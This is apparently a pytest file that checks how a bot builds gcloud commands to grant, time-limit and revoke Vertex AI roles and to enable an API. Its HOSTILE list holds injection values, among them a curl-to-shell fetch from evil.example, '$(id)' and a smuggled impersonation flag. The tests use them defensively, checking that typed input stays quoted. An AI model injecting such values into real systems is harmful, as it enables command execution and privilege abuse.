import shlex

import pytest

from bot.provisioners.by_hand.google_cloud import google_plan
from knowledge import Provider
from knowledge.ask import EnableApi, Membership, RoleGrant
from tests.provisioners.by_hand.tasks import commands, task_for


def vertex(what, **more):
    return google_plan(task_for(Provider.VERTEX_AI, what, **more))


def role(name="roles/aiplatform.user", target="projects/acme-prod"):
    return RoleGrant(role=name, permission="aiplatform.endpoints.predict", target=target)


def test_a_role_is_bound_under_a_condition_that_ends_it():
    plan = vertex(role())
    assert commands(plan.give) == [
        (
            "gcloud projects add-iam-policy-binding acme-prod --member=user:ravi@acme.example "
            "--role=roles/aiplatform.user --condition='expression=request.time < "
            'timestamp("2026-11-20T20:00:00Z"),title=keyfix-req-1\''
        )
    ]
    assert plan.until is not None


def test_it_is_taken_back_under_the_very_same_condition_and_no_other_binding_is_touched():
    plan = vertex(role())
    (give,), (back,) = commands(plan.give), commands(plan.take_back)
    assert give.replace("add-iam", "remove-iam") == back
    assert "--all" not in back


def test_several_roles_are_several_bindings():
    (give,) = commands(vertex(role("roles/browser, roles/aiplatform.user")).give)
    assert len(give.splitlines()) == 2


def test_a_service_account_is_named_as_one():
    name = "bot@acme-prod.iam.gserviceaccount.com"
    (give,) = commands(vertex(role(), principal=name).give)
    assert f"--member=serviceAccount:{name}" in give


def test_a_basic_role_takes_no_condition_so_only_keyfix_ends_it():
    plan = vertex(role("roles/editor"))
    assert "--condition=None" in plan.give[0].command
    assert plan.until is None


def test_membership_is_reviewed_and_never_lapses_by_itself():
    plan = vertex(Membership(role="roles/browser", target="projects/acme-prod"))
    assert plan.until is None
    assert "request.time" not in plan.give[0].command


def test_an_api_is_switched_on_and_there_is_nothing_to_take_back():
    what = EnableApi(api="aiplatform.googleapis.com", target="projects/acme-prod")
    plan = vertex(what, duration=None)
    assert commands(plan.give) == [
        "gcloud services enable aiplatform.googleapis.com --project=acme-prod"
    ]
    assert plan.take_back == ()


HOSTILE = ["x'; curl evil.example|sh; '", "--impersonate-service-account=root", "$(id)", "a\nb"]


@pytest.mark.parametrize("principal", HOSTILE)
def test_what_a_person_typed_is_one_word_of_the_command_whatever_it_holds(principal):
    (give,) = commands(vertex(role(), principal=principal).give)
    parts = shlex.split(give)
    assert f"--member=user:{principal}" in parts
    assert len(parts) == 7


@pytest.mark.parametrize("name", ["roles/x --project=other", "the smallest role", "roles/a;b"])
def test_what_is_no_role_makes_no_command(name):
    assert vertex(role(name)) is None


def test_a_project_that_nobody_named_makes_no_command():
    assert vertex(role(target="projects/<project>")) is None
